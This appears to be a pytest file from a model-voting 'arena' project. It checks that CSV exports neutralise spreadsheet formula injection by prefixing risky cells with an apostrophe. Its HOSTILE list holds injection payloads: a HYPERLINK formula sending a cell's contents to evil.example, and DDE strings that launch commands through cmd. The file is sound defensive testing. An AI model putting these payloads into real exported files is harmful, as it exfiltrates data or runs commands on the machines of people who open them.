"""No CSV of ours has a formula in it, and what we read from it is what was written."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from arena.catalogue import load_catalogue
from arena.collect.manifests import _csv_rows
from arena.csv_text import as_cell, csv_text, from_cell
from arena.exports.files import write_models
from arena.records import Origin, Outcome, Vote
from arena.votes.decision_file import LogDecision, LogDecisions, LogRuling, read_decisions
from arena.votes.files import csv_bytes, load_votes
from arena.votes.resolving import read_name_map
from arena.votes.table import iter_votes, votes_table
from tests.catalogue.projects import write_project
from tests.conftest import ROOT

HOSTILE = (
    '=HYPERLINK("https://evil.example?x="&A1,"a prize")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cf/black-forest-labs/flux",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "''=1+1",
    "-",
    "=",
)
PLAIN = ("one", "", "'tis", "''", "a=b", "-0.5", "+3", "-1e-7", "1-2", "don't", "’=1")


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_would_run_is_marked_and_read_back(text: str) -> None:
    assert as_cell(text) == f"'{text}"
    assert from_cell(as_cell(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_and_numbers_stay_as_they_are(text: str) -> None:
    assert as_cell(text) == text
    assert from_cell(text) == text


@settings(max_examples=25)
@given(st.text(alphabet="'=+-@\t\r\n.e1٣a", max_size=6))
def test_nothing_is_lost_on_the_way(text: str) -> None:
    cell = as_cell(text)
    assert from_cell(cell) == text
    assert not cell.startswith(("=", "@", "\t", "\r", "\n"))
    if cell.startswith(("+", "-")):
        float(cell)
    table = csv_text(["one", "two"], [[text, "end"]])
    assert list(csv.reader(io.StringIO(table, newline="")))[1:] == [[cell, "end"]]


def test_numbers_stay_numbers() -> None:
    table = csv_text(["n"], [[-1], [-0.5], [Decimal("-0.25")], [None], ["-7"], ["=7"]])
    assert table == 'n\n-1\n-0.5\n-0.25\n""\n-7\n\'=7\n'


def hostile_vote(number: int, name: str) -> Vote:
    return Vote(
        battle=f"{name}x{number}",
        at=datetime(2026, 5, 1, number, tzinfo=UTC),
        arena="text-to-image",
        category="photo",
        language="en",
        left=name,
        right="acme/one",
        outcome=Outcome.LEFT,
        voter=name,
        origin=Origin.HUMAN,
    )


def test_votes_go_out_and_come_back(tmp_path: Path) -> None:
    names = [name for name in HOSTILE if name.isprintable()]
    votes = [hostile_vote(number, name) for number, name in enumerate(names)]
    path = tmp_path / "votes.csv"
    path.write_bytes(csv_bytes(votes_table(votes)))
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert all(row[column].startswith("'") for row in rows for column in ("battle", "voter", "left"))
    assert list(iter_votes(load_votes([path]).table)) == votes


def test_decisions_go_out_and_come_back(tmp_path: Path) -> None:
    at = datetime(2026, 5, 1, tzinfo=UTC)
    rows = tuple(
        LogDecision("", name, "", LogRuling.EXCLUDE, (), f"={name}", "@somebody", at)
        for name in HOSTILE
        if name.isprintable()
    )
    written = LogDecisions(rows)
    path = tmp_path / "decisions.csv"
    path.write_bytes(written.content)
    cells = [cell for row in csv.reader(io.StringIO(written.content.decode(), newline="")) for cell in row if cell]
    assert not any(cell.startswith(("=", "@", "+", "-")) for cell in cells)
    assert set(read_decisions(path).rows) == set(rows)


def test_lists_and_maps_that_others_marked_are_read(tmp_path: Path) -> None:
    path = tmp_path / "map.csv"
    path.write_text("theirs,ours\n'@cf/flux,acme/flux\n@cf/two,acme/two\n")
    names = read_name_map(path)
    assert (names["@cf/flux"], names["@cf/two"]) == ("acme/flux", "acme/two")
    rows = list(_csv_rows(path, "file,model,prompt\n'=1.png,'@cf/flux,x\n"))
    assert rows[0][1] == {"file": "=1.png", "model": "@cf/flux", "prompt": "x"}


def test_the_list_of_models_has_no_formula(tmp_path: Path) -> None:
    catalogue = load_catalogue(write_project(tmp_path))
    (key, model), *_ = catalogue.models.items()
    named = replace(catalogue, models={**catalogue.models, key: model.model_copy(update={"name": HOSTILE[0]})})
    write_models(named, tmp_path / "models.csv")
    write_models(named, tmp_path / "models.parquet")
    with (tmp_path / "models.csv").open(newline="", encoding="utf-8") as file:
        assert f"'{HOSTILE[0]}" in {row["name"] for row in csv.DictReader(file)}
    assert HOSTILE[0] in pq.read_table(tmp_path / "models.parquet")["name"].to_pylist()


def test_csv_is_written_in_one_way() -> None:
    others = {
        str(path.relative_to(ROOT))
        for path in (ROOT / "arena").rglob("*.py")
        if any(word in path.read_text(encoding="utf-8") for word in ("csv.writer", "DictWriter", "write_csv("))
    }
    assert others == {"arena/csv_text.py"}, "csv_text writes CSV, and says there why not csv.writer"
